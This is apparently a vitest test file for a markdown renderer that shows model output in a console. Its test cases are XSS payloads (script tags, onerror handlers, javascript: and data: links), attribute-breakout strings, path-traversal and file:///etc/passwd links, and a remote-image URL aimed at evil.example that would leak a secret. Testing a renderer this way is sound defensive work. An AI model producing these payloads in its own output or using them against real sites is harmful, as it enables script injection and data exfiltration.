import { describe, expect, test } from 'vitest'
import { createMarkdown, linkTarget } from '../../src/platforms/console/public/markdown.js'

const fileUrl = (path: string) => `/files/${encodeURIComponent(path)}`
const toHtml = createMarkdown(fileUrl)

describe('Markdown from a model', () => {
  test('shows raw HTML as text', () => {
    const html = toHtml('<script>alert(1)</script>\n\nHello <img src=x onerror=alert(1)> <b>you</b>')

    expect(html).not.toMatch(/<(script|img|b)\b/)
    expect(html).toContain('&lt;script&gt;')
  })

  test.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java\tscript:alert(1)',
    ' javascript:alert(1)',
    '\u0001javascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:x',
    'file:///etc/passwd',
    '//evil.example/x',
    '\\\\evil.example\\x',
    '/api/v1/requests/req_1/answer',
    '../../secret',
    'uploads/%2e%2e/secret',
  ])('does not lead to %j', (href) => {
    expect(linkTarget(href, fileUrl)).toBeUndefined()
  })

  test('opens outside links in a tab that cannot reach this one', () => {
    expect(toHtml('[site](https://example.com/?a=1&b=2 "bank.example")')).toBe(
      '<p><a href="https://example.com/?a=1&amp;b=2" rel="noopener noreferrer" target="_blank">site</a></p>\n',
    )
  })

  test.each([
    '[https://bank.example/a](https://evil.example/x)',
    '[evil.example or **bank**.example](https://evil.example/x)',
    '[»bank&#46;example«](https://evil.example/x)',
    '[bank\u200b.example][1]\n\n[1]: https://evil.example/x',
    '[bank\u3002example](https://evil.example/x)',
    '![bank.example](https://evil.example/x)',
  ])('says where a link leads whose words are another address: %j', (markdown) => {
    expect(toHtml(markdown)).toContain('</a> (leads to evil.example)')
  })

  test.each([
    '[the report](https://docs.example/a)',
    '[docs.example/a/index.html](https://www.docs.example/a/index.html)',
    'https://docs.example/a.b?c=d&e=f',
    '[b.pdf](outputs/a.pdf)',
    'ana@docs.example',
  ])('and nothing of others: %j', (markdown) => {
    expect(toHtml(markdown)).not.toContain('leads to')
  })

  test('an entity makes no address of the words of a link', () => {
    expect(toHtml('[bank&period;example, &amp; more](https://evil.example/x)')).toContain(
      '>bank&amp;period;example, &amp; more</a>',
    )
  })

  test('links to the thread’s files', () => {
    expect(linkTarget('outputs/a%20b.md', fileUrl)).toEqual({ kind: 'file', href: '/files/outputs%2Fa%20b.md' })
  })

  test('loads no remote picture', () => {
    const html = toHtml('![secret](https://evil.example/?q=secret) ![own](outputs/chart.png) ![x](javascript:alert(1))')

    expect(html.match(/<img /g)).toHaveLength(1)
    expect(html).toContain('<img src="/files/outputs%2Fchart.png" alt="own" loading="lazy">')
    expect(html).toContain('<a href="https://evil.example/?q=secret"')
  })

  test('cannot break out of an attribute', () => {
    const html = toHtml('![" onerror="alert(1)](outputs/a.png) [x](https://e.com/"onmouseover="alert(1))')

    expect(html).not.toMatch(/" on\w+="/)
  })

  test('draws tables, code and tasks', () => {
    const html = toHtml('| a |\n|---|\n| 1 |\n\n```js\n<b>\n```\n\n- [x] done')

    expect(html).toContain('<table>')
    expect(html).toContain('<code class="language-js">&lt;b&gt;')
    expect(html).toContain('<input type="checkbox" disabled checked>')
  })

  test.each([
    ['a line', String.raw`so \(a^2\) and $x_1$`, ['math-inline">a^2<', 'math-inline">x_1<']],
    ['a block', '\\[\na\n= b\n- c\n\\]', ['math-block">a\n= b\n- c<']],
    ['dollars', '$$\n\\frac{1}{2}\n$$', ['math-block">\\frac{1}{2}<']],
    ['a table', '| a |\n|---|\n| \\(y\\) |', ['<td><span class="math-inline">y<']],
  ])('keeps the formulas of %s as they are', (_, markdown, expected) => {
    for (const part of expected) expect(toHtml(markdown)).toContain(part)
  })

  test.each(['costs $5 and $10', '$HOME/$USER', 'from $5-$10', '`\\(a\\)`', '```\n$$x$$\n```'])(
    'finds no formula in %j',
    (markdown) => {
      expect(toHtml(markdown)).not.toContain('math-')
    },
  )

  test('lists the footnotes that the text names, in its order', () => {
    const html = toHtml('A[^b] and B[^a], not [^c].\n\n[^a]: First\n[^b]: Second, *more*\n[^d]: Unused')

    expect(html).toContain('A<sup class="footnote-reference">1</sup> and B<sup class="footnote-reference">2</sup>')
    expect(html).toContain('<li>Second, <em>more</em></li>\n<li>First</li>')
    expect(html).toContain('not [^c]')
    expect(html).not.toContain('Unused')
  })

  test('folds details, and takes no attribute with them', () => {
    const html = toHtml(
      '<details open>\n<summary>More</summary>\n\n*hidden*\n\n</details>\n\n<details onclick=alert(1)>',
    )

    expect(html).toContain('<details open>')
    expect(html).toContain('<em>hidden</em>')
    expect(html).toContain('&lt;details onclick=alert(1)&gt;')
  })

  // Work that grows with the square of the length would not end within the test's time.
  test.each(['\\(', '\n\n\\[', '\n\n$$', '$a', 'x\n\n', '[^1]', '[^1]: a\n', '*$', '<details>'])(
    'takes %j three hundred thousand characters long',
    (piece) => {
      expect(toHtml(`${piece.repeat(300_000 / piece.length)}\n\nthe end`)).toContain('the end')
    },
  )
})
